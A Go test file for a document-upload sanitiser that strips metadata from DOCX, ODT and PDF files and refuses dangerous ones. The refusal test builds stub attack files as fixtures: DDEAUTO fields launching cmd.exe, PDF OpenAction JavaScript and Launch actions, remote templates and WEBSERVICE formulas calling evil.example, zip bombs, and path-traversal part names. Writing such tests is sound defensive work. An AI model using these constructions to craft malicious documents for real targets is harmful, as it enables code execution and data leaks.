package media_test

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"errors"
	"fmt"
	"io"
	"maps"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/vorbild/vorbild/internal/fault"
	"github.com/vorbild/vorbild/internal/media"
)

// keep stores a document and returns what is kept of it.
func (h *house) keep(raw []byte) (media.Document, []byte) {
	h.Helper()
	d, err := h.media.StoreDocument(h.Ctx, bytes.NewReader(raw))
	h.Must(err)
	f, err := h.media.OpenDocument(d.File)
	h.Must(err)
	defer f.Close()
	kept, err := io.ReadAll(f)
	h.Must(err)
	if int64(len(kept)) != d.Size {
		h.Errorf("%d bytes are kept, said to be %d", len(kept), d.Size)
	}
	return d, kept
}

// refusal says why a document is not taken, "" when it is.
func (h *house) refusal(raw []byte) string {
	h.Helper()
	_, err := h.media.StoreDocument(h.Ctx, bytes.NewReader(raw))
	var f *fault.Error
	switch {
	case err == nil:
		return ""
	case errors.As(err, &f) && len(f.Fields) == 1 && f.Fields[0].Name == "file":
		return strings.TrimPrefix(f.Fields[0].Message, "error.document.")
	}
	return err.Error()
}

func TestStoreDocument(t *testing.T) {
	h := newHouse(t)
	photo := strings.Repeat("geheimer Ort ", 3)
	jpeg := encodeJPEG(t, quarters(40, 30))
	jpeg = slices.Concat(jpeg[:2], []byte{0xFF, 0xE1, 0, byte(len(photo) + 2)}, []byte(photo), jpeg[2:])
	for name, c := range map[string]struct {
		raw       []byte
		extension string
		keeps     string // a part, or text, that is still there
	}{
		"docx":              {docx(t, part{"word/media/image1.jpeg", string(jpeg)}), ".docx", "word/document.xml"},
		"odt":               {odt(t, `<text:a xlink:href="https://example.org/">Leitfaden</text:a>`, part{"Pictures/1.jpg", string(jpeg)}), ".odt", "content.xml"},
		"chart in a docx":   {docx(t, part{"word/embeddings/Microsoft_Excel_Sheet.xlsx", string(docx(t))}), ".docx", "word/embeddings/Microsoft_Excel_Sheet.xlsx"},
		"pdf":               {pdf("/Lang(de)"), ".pdf", "/MediaBox"},
		"pdf, packed":       {hiddenPDF(t, "/Lang(de)", "<</Author(Erika Mustermann)>>", 0), ".pdf", "/MediaBox"},
		"pdf that grew":     {append(pdf(""), "\n5 0 obj\n<</Author(Erika Mustermann)>>\nendobj\n"...), ".pdf", "/MediaBox"},
		"zip behind a pdf":  {append(pdf(""), docx(t)...), ".pdf", "/MediaBox"},
		"page behind a zip": {append(docx(t), "<script>geheim</script>"...), ".docx", "word/document.xml"},
	} {
		d, kept := h.keep(c.raw)
		if d.Extension != c.extension || d.ContentType != media.DocumentTypes[c.extension] {
			t.Errorf("%s is kept as %s, %s", name, d.Extension, d.ContentType)
		}
		text := string(kept) + inflated(kept)
		if c.extension != ".pdf" {
			text = unpacked(t, kept)
		}
		if !strings.Contains(text, c.keeps) {
			t.Errorf("%s lost %s", name, c.keeps)
		}
		for _, secret := range []string{"Mustermann", "geheim", "Entwurf", "Erikas Amt"} {
			if strings.Contains(text, secret) {
				t.Errorf("%s still says %q", name, secret)
			}
		}
		// What was cleaned can be cleaned again: it is a whole document.
		if reason := h.refusal(kept); reason != "" {
			t.Errorf("%s is no document any more: %s", name, reason)
		}
		if _, _, err := h.media.Open(d.File); !fault.Is(err, fault.NotFound) {
			t.Errorf("%s can be read by its name: %v", name, err)
		}
	}
}

// unpacked is all parts of a document one after the other.
func unpacked(t *testing.T, raw []byte) string {
	t.Helper()
	r, err := zip.NewReader(bytes.NewReader(raw), int64(len(raw)))
	must(t, err)
	text := r.Comment
	for _, f := range r.File {
		content, err := f.Open()
		must(t, err)
		b, err := io.ReadAll(content)
		must(t, err)
		text += f.Name + f.Comment + "\n" + string(b) + "\n"
		if strings.HasPrefix(string(b), "PK") {
			text += unpacked(t, b)
		}
	}
	return text
}

// inflated is what the packed streams of a PDF say.
func inflated(raw []byte) string {
	var text strings.Builder
	for rest := raw; ; {
		_, behind, ok := bytes.Cut(rest, []byte("stream"))
		if !ok {
			return text.String()
		}
		rest = behind
		if r, err := zlib.NewReader(bytes.NewReader(bytes.TrimLeft(behind, "\r\n"))); err == nil {
			_, _ = io.Copy(&text, r) // what is no stream ends early
		}
	}
}

func TestStoreDocumentImage(t *testing.T) {
	h := newHouse(t)
	d, kept := h.keep(photograph(t, quarters(1000, 500), 6))
	if got := (media.Document{ContentType: d.ContentType, Extension: d.Extension, Width: d.Width, Height: d.Height}); got != (media.Document{ContentType: "image/jpeg", Extension: ".jpg", Width: 500, Height: 1000}) {
		t.Errorf("kept as %+v", got)
	}
	if bytes.Contains(kept, []byte("Exif")) {
		t.Error("the place where it was taken is still in it")
	}
	if d.PreviewFile == "" || d.PreviewFile == d.File {
		t.Error("it has no preview")
	}
}

// TestStoreDocumentRefuses: what could do something by itself, or is not what it says.
func TestStoreDocumentRefuses(t *testing.T) {
	h := newHouse(t)
	external := func(kind string) part {
		return part{"word/_rels/settings.xml.rels", fmt.Sprintf(relation, kind, "https://evil.example/t.dotm", ` TargetMode="External"`)}
	}
	macroTypes := strings.Replace(openXML, "openxmlformats-officedocument.wordprocessingml.document.main", "ms-word.document.macroEnabled.main", 1)
	bomb := zipped(t, part{"[Content_Types].xml", openXML}, part{"word/document.xml", strings.Repeat("\x00", 65<<20)})
	large := strings.Repeat("\x00", 60<<20)
	many := []part{{"[Content_Types].xml", openXML}}
	for i := range 3_100 {
		many = append(many, part{fmt.Sprint("word/", i, ".xml"), ""})
	}
	lying := docx(t)
	for i := bytes.Index(lying, []byte("PK\x01\x02")); i >= 0 && i < len(lying); {
		copy(lying[i+24:], []byte{1, 0, 0, 0}) // the list of parts says that each is one byte
		next := bytes.Index(lying[i+4:], []byte("PK\x01\x02"))
		if next < 0 {
			break
		}
		i += 4 + next
	}
	got := map[string]string{}
	for name, raw := range map[string][]byte{
		"nothing":                       {},
		"a program":                     []byte("MZ\x90\x00 and more"),
		"a page":                        []byte("<html><script>alert(1)</script>"),
		"an old document":               []byte("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1 and more"),
		"some zip":                      zipped(t, part{"a.txt", "a"}),
		"a jar":                         zipped(t, part{"META-INF/MANIFEST.MF", "a"}),
		"something before a pdf":        append([]byte("GIF89a"), pdf("")...),
		"docx with macros":              docx(t, part{"word/vbaProject.bin", "x"}),
		"docx that says it has macros":  zipped(t, part{"[Content_Types].xml", macroTypes}, part{"word/document.xml", "<a/>"}),
		"docx with a template":          docx(t, external("attachedTemplate")),
		"docx with a distant picture":   docx(t, external("image")),
		"docx with a control":           docx(t, part{"word/activeX/activeX1.xml", "<a/>"}),
		"docx with a program":           docx(t, part{"word/media/image1.png", "MZ\x90"}),
		"docx with an old document":     docx(t, part{"word/embeddings/a.dat", "\xD0\xCF\x11\xE0"}),
		"docx in docx in docx":          docx(t, part{"word/embeddings/a.docx", string(docx(t, part{"word/embeddings/b.docx", string(docx(t))}))}),
		"docx with macros in docx":      docx(t, part{"word/embeddings/a.docx", string(docx(t, part{"word/vbaProject.bin", "x"}))}),
		"docx with a way out":           docx(t, part{"../../etc/cron.d/x", "x"}),
		"docx with an absolute name":    docx(t, part{"/etc/passwd", "x"}),
		"docx with a Windows name":      docx(t, part{`..\..\x`, "x"}),
		"docx with a part twice":        docx(t, part{"WORD/document.xml", "x"}),
		"docx with broken relations":    docx(t, part{"word/_rels/a.xml.rels", "<a"}),
		"bomb":                          bomb,
		"bomb of many parts":            zipped(t, many...),
		"bomb of large parts":           zipped(t, part{"[Content_Types].xml", openXML}, part{"word/1.xml", large}, part{"word/2.xml", large}, part{"word/3.xml", large}),
		"parts larger than they say":    lying,
		"odt with macros":               odt(t, "", part{"Basic/Standard/Module1.xml", "<a/>"}),
		"odt with an event":             odt(t, `<s:event-listener s:event-name="dom:load"/>`),
		"odt with a distant picture":    odt(t, `<draw:image xlink:href="https://evil.example/a.png"/>`),
		"odt with a file of the reader": odt(t, `<draw:image xlink:href="../../../etc/passwd"/>`),
		"odt behind a password":         zipped(t, part{"mimetype", "application/vnd.oasis.opendocument.text"}, part{"content.xml", "x"}, part{"META-INF/manifest.xml", strings.Replace(manifest, "/>", "><manifest:encryption-data/></manifest:file-entry>", 1)}),
		"odt with an entity":            odt(t, `&x;`),
		"template":                      zipped(t, part{"mimetype", "application/vnd.oasis.opendocument.text-template"}, part{"content.xml", "<a/>"}, part{"META-INF/manifest.xml", manifest}),
		"pdf with a script":             pdf("/OpenAction<</S/JavaScript/JS(app.alert)>>"),
		"pdf with a disguised script":   pdf("/OpenAction<</S/Java#53cript/J#53(app.alert)>>"),
		"pdf with a packed script":      hiddenPDF(t, "/OpenAction 4 0 R", "<</S/JavaScript/JS(app.alert)>>", 0),
		"pdf that starts a program":     pdf("/OpenAction<</S/Launch/F(cmd.exe)>>"),
		"pdf that sends":                pdf("", "<</Type/Annot/A<</S/SubmitForm/F(https://evil.example)>>>>"),
		"pdf with a file":               pdf("/Names<</EmbeddedFiles<</Names[(a)6 0 R]>>>>", "<</Type/Filespec/EF<</F 7 0 R>>>>", stream("/Type/EmbeddedFile", "MZ")),
		"pdf with an XFA form":          pdf("/AcroForm<</XFA 6 0 R/Fields[]>>", stream("", "<a/>")),
		"pdf behind a password":         bytes.Replace(pdf(""), []byte("/Info 5 0 R"), []byte("/Encrypt 6 0 R/Info 5 0 R"), 1),
		"pdf bomb":                      hiddenPDF(t, "", "<<>>", 70<<20),
		"half a pdf":                    pdf("")[:60],
		"pdf of many lists of objects":  manyLists(t, 6, 7<<20),
		"pdf with a distant document":   pdf(`/OpenAction<</S/GoToR/F(\\\\evil.example\\x)/D[0/Fit]>>`),
		"pdf that tells who reads":      pdf("/OpenAction<</S/URI/URI(https://evil.example/)>>"),
		"pdf that tells it afterwards":  pdf("/OpenAction 6 0 R", "<</S/GoTo/D[3 0 R/Fit]/Next[7 0 R]>>", "<</S/URI/URI(https://evil.example/)>>"),
		"pdf that turns in circles":     pdf("/OpenAction 6 0 R", "<</S/GoTo/D[3 0 R/Fit]/Next 6 0 R>>"),
		"docx that starts a program":    docx(t, word("word/header1.xml", `<w:fldSimple w:instr=" DDEAUTO c:\\windows\\cmd.exe &quot;/k calc&quot;"/>`)),
		"docx that starts it in parts":  docx(t, word("word/header1.xml", begin+instruction("DD")+instruction(`EAUTO "cmd"`)+end)),
		"docx that starts it disguised": docx(t, word("word/header1.xml", begin+instruction(" ")+begin+instruction("QUOTE 68 68 69")+end+instruction(" cmd")+end)),
		"docx by another name":          docx(t, word("word/header1.dat", begin+instruction("ddeauto cmd")+end)),
		"docx in other letters":         docx(t, part{"word/header1.xml", utf16(word("", begin+instruction("DDEAUTO cmd")+end).content)}),
		"docx with another's text":      docx(t, word("word/header1.xml", begin+instruction(`INCLUDETEXT "https://evil.example"`)+end)),
		"docx with a picture not kept":  docx(t, word("word/header1.xml", begin+instruction(`INCLUDEPICTURE "https://evil.example/a.png" \d`)+end)),
		"xlsx that starts a program":    docx(t, part{"xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`}),
		"xlsx that asks a server":       docx(t, part{"xl/worksheets/sheet1.xml", `<c r="A1"><f>_xlfn.WEBSERVICE("https://evil.example/"&amp;B1)</f></c>`}),
		"ods that asks a server":        odt(t, `<text:p t:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;https://evil.example&quot;)"/>`),
		"odt with a file of a server":   odt(t, `<draw:image xlink:href="\\evil.example\a.png"/>`),
		"odt with a winding way out":    odt(t, `<draw:image xlink:href="./%2e%2e/passwd"/>`),
	} {
		got[name] = h.refusal(raw)
	}
	want := map[string]string{
		"nothing": "error.media.missing", "a program": "type", "a page": "type", "an old document": "old_office", "some zip": "type", "a jar": "type",
		"something before a pdf": "error.media.pixels", "docx with macros": "macros", "docx that says it has macros": "macros", "docx with a template": "external",
		"docx with a distant picture": "external", "docx with a control": "macros", "docx with a program": "embedded", "docx with an old document": "embedded",
		"docx in docx in docx": "embedded", "docx with macros in docx": "embedded", "docx with a way out": "unreadable", "docx with an absolute name": "unreadable",
		"docx with a Windows name": "unreadable", "docx with a part twice": "unreadable", "docx with broken relations": "unreadable", "bomb": "too_large_unpacked",
		"bomb of many parts": "too_large_unpacked", "bomb of large parts": "too_large_unpacked", "parts larger than they say": "unreadable", "odt with macros": "macros", "odt with an event": "macros",
		"odt with a distant picture": "external", "odt with a file of the reader": "external", "odt behind a password": "encrypted", "odt with an entity": "unreadable",
		"template": "type", "pdf with a script": "active", "pdf with a disguised script": "active", "pdf with a packed script": "active",
		"pdf that starts a program": "active", "pdf that sends": "active", "pdf with a file": "active", "pdf with an XFA form": "active",
		"pdf behind a password": "encrypted", "pdf bomb": "unreadable", "half a pdf": "unreadable",
		"pdf of many lists of objects": "too_large_unpacked", "pdf with a distant document": "active", "pdf that tells who reads": "active",
		"pdf that tells it afterwards": "active", "pdf that turns in circles": "active", "docx that starts a program": "external",
		"docx that starts it in parts": "external", "docx that starts it disguised": "external", "docx by another name": "external",
		"docx in other letters": "external", "docx with another's text": "external", "docx with a picture not kept": "external",
		"xlsx that starts a program": "external", "xlsx that asks a server": "external", "ods that asks a server": "external",
		"odt with a file of a server": "external", "odt with a winding way out": "external",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
	if left := slices.Collect(maps.Keys(h.files())); len(left) > 0 {
		t.Errorf("of what was refused %d files are kept", len(left))
	}
	if _, err := h.media.StoreDocument(h.Ctx, io.LimitReader(zeros{}, media.MaxDocument+1)); !fault.Is(err, fault.TooLarge) {
		t.Errorf("too large: %v", err)
	}
}

// TestStoreDocumentTakesOrdinaryFields: what people use every day is no danger.
func TestStoreDocumentTakesOrdinaryFields(t *testing.T) {
	h := newHouse(t)
	for name, raw := range map[string][]byte{
		"page numbers":            docx(t, word("word/footer1.xml", begin+instruction(" PAGE ")+separate+"1"+end+`<w:fldSimple w:instr="NUMPAGES"/>`)),
		"a link":                  docx(t, word("word/footer1.xml", begin+instruction(`HYPERLINK "https://example.org"`)+separate+"dort"+end)),
		"a condition":             docx(t, word("word/footer1.xml", begin+instruction("IF ")+begin+instruction("PAGE")+end+instruction(` = 1 "a" "b"`)+end)),
		"a picture that is kept":  docx(t, word("word/footer1.xml", begin+instruction(`INCLUDEPICTURE "https://example.org/a.png" \* MERGEFORMATINET`)+end)),
		"a place to write":        docx(t, word("word/footer1.xml", begin+instruction("MACROBUTTON Nichts [Bitte ausfüllen]")+end)),
		"a text about a function": docx(t, word("word/footer1.xml", "<w:p>Mit WEBSERVICE(Adresse) und DDEAUTO</w:p>")),
		"a sum":                   docx(t, part{"xl/worksheets/sheet1.xml", `<c r="A1"><f>SUM(A1:A3)+LINEDDE(1)</f></c>`}),
		"a pdf at a page":         pdf("/OpenAction[3 0 R/Fit]"),
		"a pdf at a page, by way": pdf("/OpenAction 6 0 R", "<</S/GoTo/D[3 0 R/Fit]>>"),
		"a pdf with a link":       pdf("", "<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://example.org)>>>>"),
		"a pdf of some lists":     manyLists(t, 3, 1<<20),
		"a picture of its own":    odt(t, `<draw:image xlink:href="./Pictures/a.png"/><draw:image xlink:href="Pictures/b.png"/>`),
	} {
		if got := h.refusal(raw); got != "" {
			t.Errorf("%s: %s", name, got)
		}
	}
}

type zeros struct{}

func (zeros) Read(b []byte) (int, error) { return len(b), nil }
